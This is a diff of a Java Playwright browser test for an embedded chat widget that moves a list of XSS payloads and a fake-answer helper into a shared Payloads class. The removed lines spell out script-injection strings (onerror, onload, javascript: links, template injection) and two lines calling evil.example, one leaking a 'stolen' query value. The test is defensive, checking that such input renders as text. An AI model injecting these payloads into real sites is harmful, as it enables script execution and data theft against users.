@@ -6,14 +6,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.Request;
-import dev.waymark.answer.Answer.Grounded;
-import dev.waymark.answer.AnswerSentence;
-import dev.waymark.answer.Block;
-import dev.waymark.answer.Citation;
 import dev.waymark.chat.ScriptedChat;
-import dev.waymark.knowledge.Article;
-import dev.waymark.knowledge.Source;
-import dev.waymark.text.Offsets;
 import java.util.ArrayList;
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -22,18 +15,6 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
 
 class WidgetSafetyInBrowserTest {
-    private static final List<String> PAYLOADS = List.of(
-            "<script>alert(1)</script>",
-            "<img src=x onerror=alert(1)>",
-            "<svg/onload=alert(1)>",
-            "\"><iframe srcdoc=\"<script>alert(1)</script>\">",
-            "[a link](javascript:alert(1))",
-            "![x](https://evil.example/?q=stolen)",
-            "</textarea><details open ontoggle=alert(1)>",
-            "{{constructor.constructor('alert(1)')()}}",
-            "<a href=\"javascript:alert(1)\" autofocus onfocus=alert(1)>x</a>",
-            "<style>@import 'https://evil.example/x.css'; * { display: none }</style>");
-
     /** What pages do to what is embedded in them, by accident or not. */
     private static final String HOSTILE = """
             *, *::before, *::after { all: unset !important; display: block !important; color: red !important;
@@ -54,7 +35,7 @@ class WidgetSafetyInBrowserTest {
     private final List<String> requests = new ArrayList<>();
 
     static List<String> payloads() {
-        return PAYLOADS;
+        return Payloads.ALL;
     }
 
     @ParameterizedTest
@@ -62,7 +43,8 @@ class WidgetSafetyInBrowserTest {
     void showsWhatComesFromOutsideAsText(String payload) {
         EMBEDDED.server.chat.on(
                 payload,
-                ScriptedChat.answer(payload, List.of(), List.of(), answer("A model says " + payload, payload)));
+                ScriptedChat.answer(
+                        payload, List.of(), List.of(), Payloads.answer("A model says " + payload, payload)));
         watch();
         Embedded.open(page, EMBEDDED.page("en", ""));
 
@@ -139,34 +121,5 @@ class WidgetSafetyInBrowserTest {
         assertThat(page.locator(".panel").locator("img, script, iframe, style, a[href^='javascript']"))
                 .hasCount(0);
         assertThat(CHROMIUM.complaints()).isEmpty();
-    }
-
-    private static Grounded answer(String sentence, String payload) {
-        Article article = new Article(
-                "bad-" + PAYLOADS.indexOf(payload),
-                "Title " + payload,
-                "Publisher " + payload,
-                "javascript:alert(1)",
-                "2024",
-                List.of(),
-                List.of(),
-                payload,
-                List.of(),
-                List.of());
-        Citation citation = Citation.of(
-                1,
-                article,
-                "Heading " + payload,
-                new Offsets(0, payload.length()),
-                List.of(new Source("Source " + payload, payload, "javascript:alert(1)", null)));
-        return new Grounded(
-                List.of(new AnswerSentence(sentence, List.of(1), Block.PARAGRAPH)),
-                List.of(citation),
-                List.of(),
-                "llm:bad",
-                false,
-                false,
-                0.9,
-                List.of("Next " + payload));
     }
 }
